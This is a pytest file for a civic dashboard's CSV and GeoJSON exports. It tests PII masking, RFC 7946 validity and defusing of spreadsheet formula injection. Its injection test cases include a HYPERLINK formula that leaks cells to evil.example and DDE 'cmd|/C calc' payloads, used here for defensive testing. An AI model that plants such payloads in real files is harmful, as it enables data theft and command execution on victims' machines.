"""Exports: CSV bytes parsed back (BOM, row count, headers, masking) and GeoJSON checked by the independent
``geojson-validator`` package and by RFC 7946's rules directly (no crs, CCW exteriors, lon/lat order, 7 decimals).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import duckdb
import geojson_validator
import numpy as np
import pandas as pd
import pytest
import shapely
from tiny_db import EAST, MAY, build_tiny_db

import queries
from queries.db import LiveDatabase
from views import exports

BOM = b"\xef\xbb\xbf"
geojson_validator.configure_logging(enabled=False)
RAW_PHONE = re.compile(r"(?<!\d)1[3-9]\d{9}(?!\d)")
AT = dt.datetime(2024, 5, 31, 23, 59)

# Locations inside each case's community (t:8 stays unlocated), contacts as the ETL stores them (masked),
# and free text in which a citizen typed a phone and an ID number.
_ENRICH_SQL = """
UPDATE cases SET lon = 117.12 + 0.001 * CAST(right(case_uid, 1) AS INTEGER), lat = 31.05
    WHERE grid_l3 = '340102001001';
UPDATE cases SET lon = 117.17, lat = 31.05 WHERE grid_l3 = '340102001002';
UPDATE cases SET lon = 117.05, lat = 31.05 WHERE grid_l3 = '340102002001';
UPDATE cases SET contact_masked = '张* 138****5678', address = '测试路1号',
    description = '井盖缺失，联系电话13812345678，身份证340104199001011234' WHERE case_uid = 't:1';
UPDATE cases SET contact_masked = '李*' WHERE case_uid = 't:2';
INSERT INTO category VALUES
    ('06010', 'GB/T 47678.5-2026', '06', '市容环境类', 'City appearance', '暴露垃圾', 'Exposed garbage'),
    ('09009', 'GB/T 47678.5-2026', '09', '街面秩序类', 'Street order', '机动车乱停放', 'Illegal parking');
"""


@pytest.fixture(scope="module")
def con(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.DuckDBPyConnection]:
    path = build_tiny_db(tmp_path_factory.mktemp("exports") / "onemap.duckdb")
    with duckdb.connect(str(path)) as writer:
        writer.execute(_ENRICH_SQL)
    with LiveDatabase(path).cursor() as cursor:
        yield cursor


@pytest.fixture(scope="module")
def may_cases(con: duckdb.DuckDBPyConnection) -> pd.DataFrame:
    return queries.case_export(con, limit=1_000_000, **MAY)


def read_csv(data: bytes) -> pd.DataFrame:
    assert data.startswith(BOM), "Excel needs the BOM to read UTF-8"
    return pd.read_csv(io.BytesIO(data[len(BOM) :]), encoding="utf-8", dtype=str, keep_default_na=False)


# ---------------------------------------------------------------- the export query
def test_case_export_is_every_matching_case(con: duckdb.DuckDBPyConnection, may_cases: pd.DataFrame) -> None:
    assert may_cases["case_uid"].tolist() == ["t:1", "t:2", "t:3", "t:9", "t:4", "t:5", "t:6", "t:8"]  # by report
    assert queries.case_export(con, limit=3, **MAY)["case_uid"].tolist() == ["t:1", "t:2", "t:3"]
    east = queries.case_export(con, limit=100, area=EAST, category="06010")
    assert east["case_uid"].tolist() == ["t:7", "t:1", "t:3", "t:9"]
    assert not [column for column in may_cases.columns if "contact" in column and column != "contact_masked"]
    with pytest.raises(ValueError, match="limit must be a positive int, got 0"):
        queries.case_export(con, limit=0)


# ---------------------------------------------------------------- CSV
def test_cases_csv_round_trips_with_chinese_headers(may_cases: pd.DataFrame) -> None:
    data = exports.cases_csv(may_cases, lang="zh")
    table = read_csv(data)
    assert len(table) == len(may_cases) == 8
    assert list(table.columns[:4]) == ["案件编号", "来源系统", "原始编号", "来源渠道"]
    assert "联系人（已脱敏）" in table.columns and "经度（WGS-84）" in table.columns
    first = table.iloc[0]
    assert (first["案件编号"], first["来源渠道"], first["事件类别"], first["上报时间"]) == (
        "t:1",
        "12345热线",
        "暴露垃圾",
        "2024-05-01 09:00:00",
    )
    assert (first["联系人（已脱敏）"], first["紧急"]) == ("张* 138****5678", "否")
    assert first["类别编码"] == '="06010"'  # Excel's text constant: shown as 06010, the leading 0 kept, no tab
    assert first["事件描述"] == "井盖缺失，联系电话138****5678，身份证340104********1234"
    text = data.decode("utf-8-sig")
    assert RAW_PHONE.findall(text) == []
    assert "340104199001011234" not in text
    assert "\r\n" in text  # Excel-friendly line ends


def test_no_cell_carries_a_tab_or_runs_as_a_formula(may_cases: pd.DataFrame) -> None:
    text = exports.cases_csv(may_cases, lang="zh").decode("utf-8-sig")
    assert "\t" not in text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert {cell for cell in cells if cell.startswith("=")} == {'="06010"', '="09009"', '="09005"', '="06042"'} | {
        f'="{code}"' for code in may_cases["grid_code"].dropna()
    }


#: (cell as a user typed it, as the CSV must carry it): OWASP's and defusedcsv's payloads, and a masked name.
INJECTIONS = [
    ('=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")', "'=HYPERLINK("),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|"),
    ("@SUM(1,1)", "'@SUM(1,1)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=** 138****5678", "'=** 138****5678"),  # a name that began with = (=张三 masked by the ETL)
]


@pytest.mark.parametrize(("typed", "written"), INJECTIONS)
def test_formula_injection_is_defused(may_cases: pd.DataFrame, typed: str, written: str) -> None:
    frame = may_cases.head(1).copy()
    for column in ("description", "address", "contact_masked", "dept_name", "source_id", "request_nature"):
        frame[column] = typed
    text = exports.cases_csv(frame, lang="en").decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    for header in ("Description", "Address", "Contact (masked)", "Department", "Source ID", "Request nature"):
        assert row[header].startswith(written), header
        assert row[header] == "'" + typed, header  # nothing else changed


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("06010", '="06010"'),
        ("34010400100700401", '="34010400100700401"'),
        ("C0001", "C0001"),
        ("=1+1", "'=1+1"),
        ("-123", "'-123"),
        ("０１２", "０１２"),  # full-width digits are not an Excel number: plain text
        (None, None),
    ],
)
def test_identifiers_stay_text_in_excel(value: str | None, cell: str | None) -> None:
    assert exports.excel_identifier(value) == cell


def test_numbers_are_not_defused() -> None:
    table = pd.DataFrame({"code": ["01"], "name": ["-西街道"], "cases": [-3], "closure_rate": [-0.5]})
    text = exports.csv_bytes(table, lang="en").decode("utf-8-sig")
    assert text.splitlines()[1] == '"=""01""",\'-西街道,-3,-0.5'


def test_cases_csv_in_english(may_cases: pd.DataFrame) -> None:
    table = read_csv(exports.cases_csv(may_cases, lang="en"))
    assert list(table.columns[:4]) == ["Case ID", "Source system", "Source ID", "Channel"]
    assert table.iloc[0][["Channel", "Category", "Urgent"]].tolist() == ["12345 hotline", "Exposed garbage", "no"]


def test_case_table_exports_only_the_allowed_columns(may_cases: pd.DataFrame) -> None:
    leaky = may_cases.assign(contact_phone="13812345678", contact_name="张三")
    table = exports.case_table(leaky, lang="zh")
    assert list(table.columns) == list(exports.CASE_COLUMNS)
    # no incident here was reported more than once: each case is its own incident
    assert (table["incident_id"] == table["case_uid"]).all() and (table["incident_reports"] == 1).all()
    assert "13812345678" not in exports.cases_csv(leaky, lang="zh").decode("utf-8-sig")
    with pytest.raises(ValueError, match=r"case export frame lacks columns \['contact_masked'\]"):
        exports.case_table(may_cases.drop(columns="contact_masked"), lang="zh")


def test_areas_csv(con: duckdb.DuckDBPyConnection) -> None:
    areas = queries.area_measures(con, depth=2, at=AT, **MAY)
    table = read_csv(exports.areas_csv(areas, lang="zh"))
    assert len(table) == len(areas) == 2
    assert list(table.columns[:3]) == ["区域编码", "区域名称", "上级编码"]
    assert table[["区域编码", "区域名称", "案件数", "结案率"]].values.tolist() == [
        ['="340102001"', "东街道", "4", "0.5"],
        ['="340102002"', "西街道", "3", "0.5"],
    ]
    rounded = exports.area_table(areas.assign(area_km2=30.590114027891154, closure_rate=3 / 7, per_1000=6.99479))
    assert rounded[["area_km2", "closure_rate", "per_1000"]].iloc[0].tolist() == [30.59, 0.4286, 6.99]
    assert "geom_wkb" not in read_csv(exports.areas_csv(areas, lang="en")).columns


# ---------------------------------------------------------------- GeoJSON
def validate(data: bytes, *, problematic: set[str] | None = None) -> dict:
    """Parse and check with geojson-validator; returns the parsed collection."""
    collection = json.loads(data.decode("utf-8"))
    assert not data.startswith(BOM)
    assert geojson_validator.validate_structure(collection, check_crs=True) == {}
    result = geojson_validator.validate_geometries(collection)
    assert result["invalid"] == {}
    assert result["skipped_validation"] == [i for i, f in enumerate(collection["features"]) if f["geometry"] is None]
    # 7 decimals (≈1 cm, as asked) is more than the validator's 6-decimal advice; nothing else is problematic.
    assert set(result["problematic"]) <= {"excessive_coordinate_precision", *(problematic or ())}
    assert set(collection) == {"type", "onemap", "features"} and collection["type"] == "FeatureCollection"
    return collection


def fields(feature: dict, collection: dict) -> dict:
    """A feature's properties by field name (the keys are headers in the export's language)."""
    names = collection["onemap"]["fields"]
    return {names[key]: value for key, value in feature["properties"].items()}


def positions(geometry: dict) -> list[list[float]]:
    coordinates = geometry["coordinates"]
    while isinstance(coordinates[0][0], list):
        coordinates = [position for part in coordinates for position in part]
    return coordinates if isinstance(coordinates[0], list) else [coordinates]


def test_cases_geojson(may_cases: pd.DataFrame) -> None:
    collection = validate(exports.cases_geojson(may_cases, lang="zh"))
    features = collection["features"]
    assert len(features) == len(may_cases) - 1 == 7  # t:8 was reported without a location: left out, counted
    by_id = {fields(feature, collection)["case_uid"]: feature for feature in features}
    assert by_id["t:1"]["geometry"] == {"type": "Point", "coordinates": [117.121, 31.05]}  # lon, lat
    properties = fields(by_id["t:1"], collection)
    assert properties["reported_at"] == "2024-05-01T09:00:00+08:00"
    assert properties["closed_at"] == "2024-05-02T10:00:00+08:00"
    assert fields(by_id["t:3"], collection)["closed_at"] is None
    assert properties["is_urgent"] is False and properties["category_name"] == "暴露垃圾"
    assert properties["contact_masked"] == "张* 138****5678"
    assert "lon" not in properties and "lat" not in properties
    assert RAW_PHONE.findall(json.dumps(collection, ensure_ascii=False)) == []


def test_cases_geojson_rounds_to_seven_decimals(may_cases: pd.DataFrame) -> None:
    precise = may_cases.assign(lon=may_cases["lon"] + 0.000000012345, lat=may_cases["lat"] - 0.000000123)
    collection = validate(exports.cases_geojson(precise, lang="en"))
    point = next(f for f in collection["features"] if fields(f, collection)["case_uid"] == "t:1")["geometry"]
    assert point["coordinates"] == [117.121, 31.0499999]
    assert collection["features"][0]["properties"]["Channel"] == "12345 hotline"


def _frame_of(geometries: list[shapely.Geometry]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "code": [f"g{i}" for i in range(len(geometries))],
            "name": [f"网格{i}" for i in range(len(geometries))],
            "cases": np.arange(len(geometries), dtype="int64"),
            "closure_rate": [np.nan, *([0.5] * (len(geometries) - 1))],
            "geom_wkb": [shapely.to_wkb(g) for g in geometries],
            "label_lon": 0.0,
        }
    )


def test_areas_geojson_orients_and_rounds() -> None:
    clockwise = shapely.Polygon([(117.0, 31.0), (117.0, 31.1), (117.123456789, 31.1), (117.1, 31.0)])
    assert not clockwise.exterior.is_ccw
    with_hole = shapely.Polygon(
        [(117.2, 31.0), (117.3, 31.0), (117.3, 31.1), (117.2, 31.1)],
        [[(117.22, 31.02), (117.28, 31.02), (117.28, 31.08), (117.22, 31.08)]],  # counter-clockwise hole
    )
    multi = shapely.MultiPolygon(
        [shapely.box(117.4, 31.0, 117.5, 31.1, ccw=False), shapely.box(117.6, 31.0, 117.7, 31.1)]
    )
    collection = validate(
        exports.areas_geojson(_frame_of([clockwise, with_hole, multi]), lang="zh"), problematic={"holes"}
    )
    features = collection["features"]
    assert [f["geometry"]["type"] for f in features] == ["Polygon", "Polygon", "MultiPolygon"]
    assert [fields(f, collection) for f in features] == [
        {"code": "g0", "name": "网格0", "cases": 0, "closure_rate": None},
        {"code": "g1", "name": "网格1", "cases": 1, "closure_rate": 0.5},
        {"code": "g2", "name": "网格2", "cases": 2, "closure_rate": 0.5},
    ]
    rings = [
        features[0]["geometry"]["coordinates"],
        features[1]["geometry"]["coordinates"],
        *features[2]["geometry"]["coordinates"],
    ]
    for polygon in rings:
        exterior, *holes = polygon
        assert shapely.LinearRing(exterior).is_ccw
        assert all(not shapely.LinearRing(hole).is_ccw for hole in holes)
    assert len(features[1]["geometry"]["coordinates"]) == 2  # the hole kept
    assert [117.1234568, 31.1] in features[0]["geometry"]["coordinates"][0]
    for feature in features:
        assert all(117 <= lon <= 118 and 31 <= lat <= 32 for lon, lat in positions(feature["geometry"]))


def test_areas_geojson_from_the_map_query(con: duckdb.DuckDBPyConnection) -> None:
    areas = queries.area_measures(con, depth=3, parent=EAST, at=AT, **MAY)
    collection = validate(exports.areas_geojson(areas, lang="zh"))
    assert [(f["properties"]["区域名称"], f["properties"]["案件数"]) for f in collection["features"]] == [
        ("一社区", 3),
        ("二社区", 1),
    ]
    assert collection["features"][0]["geometry"]["coordinates"][0][0] == [117.15, 31.0]
    assert set(collection["onemap"]["fields"].values()) == set(exports.AREA_COLUMNS)


def test_json_values() -> None:
    offset = dt.timedelta(hours=8)
    assert exports.json_value(np.int64(3), utc_offset=offset) == 3
    assert exports.json_value(np.float64("nan"), utc_offset=offset) is None
    assert exports.json_value(pd.NaT, utc_offset=offset) is None
    assert exports.json_value(np.bool_(True), utc_offset=offset) is True
    assert exports.json_value(pd.Timestamp("2024-05-01 09:00"), utc_offset=offset) == "2024-05-01T09:00:00+08:00"
    with pytest.raises(TypeError, match="cannot export bytes value"):
        exports.json_value(b"\x00", utc_offset=offset)


def test_geojson_of_nothing_is_an_empty_collection(may_cases: pd.DataFrame) -> None:
    empty = json.loads(exports.cases_geojson(may_cases.iloc[:0], lang="zh"))
    assert (empty["type"], empty["features"]) == ("FeatureCollection", [])
    assert (empty["onemap"]["cases"], empty["onemap"]["without_coordinates"]) == (0, 0)
    assert read_csv(exports.cases_csv(may_cases.iloc[:0], lang="zh")).empty


def test_a_download_reads_the_live_database_outside_a_script_run(tmp_path: Path) -> None:
    from dashboard import cache
    from settings import Settings
    from views.access import EVERYTHING
    from views.calls import QueryCall

    settings = Settings(db_path=build_tiny_db(tmp_path / "onemap.duckdb"))
    call = QueryCall.of(queries.case_export, limit=100, **MAY)
    rows = cache.fresh_frame(settings, call, access=EVERYTHING)  # as a download button's callable runs it
    assert len(read_csv(exports.cases_csv(rows, lang="zh"))) == 8
    with pytest.raises(ValueError, match="print is not a query of the queries package"):
        QueryCall.of(print)  # type: ignore[arg-type]


def test_csv_coordinates_keep_seven_decimals(may_cases: pd.DataFrame) -> None:
    converted = may_cases.assign(lon=may_cases["lon"] + 1 / 3 * 1e-5, lat=may_cases["lat"] - 2 / 7 * 1e-5)
    table = read_csv(exports.cases_csv(converted, lang="zh"))
    text = exports.cases_csv(converted, lang="zh").decode("utf-8-sig")
    assert table["经度（WGS-84）"].dropna().iloc[0] == "117.1210033"  # 7 decimals: a centimetre, not 14
    assert not re.search(r"\d+\.\d{8,}", text)


@pytest.mark.parametrize(
    ("lang", "key", "header"), [("zh", "category_name", "事件类别"), ("en", "category_name", "Category")]
)
def test_geojson_keys_are_the_csv_headers_of_the_same_language(
    may_cases: pd.DataFrame, lang: str, key: str, header: str
) -> None:
    csv_headers = list(read_csv(exports.cases_csv(may_cases, lang=lang)).columns)
    collection = json.loads(exports.cases_geojson(may_cases, lang=lang))
    keys = list(collection["features"][0]["properties"])
    assert keys == [h for h in csv_headers if not h.startswith(("经度", "纬度", "Longitude", "Latitude"))]
    assert collection["onemap"]["language"] == lang and collection["onemap"]["fields"][header] == key
    areas = _frame_of([shapely.box(117.0, 31.0, 117.1, 31.1)])
    area_keys = list(json.loads(exports.areas_geojson(areas, lang=lang))["features"][0]["properties"])
    assert area_keys == list(read_csv(exports.areas_csv(areas, lang=lang)).columns)


def test_cases_without_coordinates_are_left_out_of_the_geojson_and_said(may_cases: pd.DataFrame) -> None:
    collection = json.loads(exports.cases_geojson(may_cases, lang="zh"))
    assert all(feature["geometry"] is not None for feature in collection["features"])
    about = collection["onemap"]
    assert (about["cases"], about["features"], about["without_coordinates"]) == (8, 7, 1)
    assert about["note"] == "1 件案件没有坐标，不在本文件中（CSV 导出包含全部案件）"
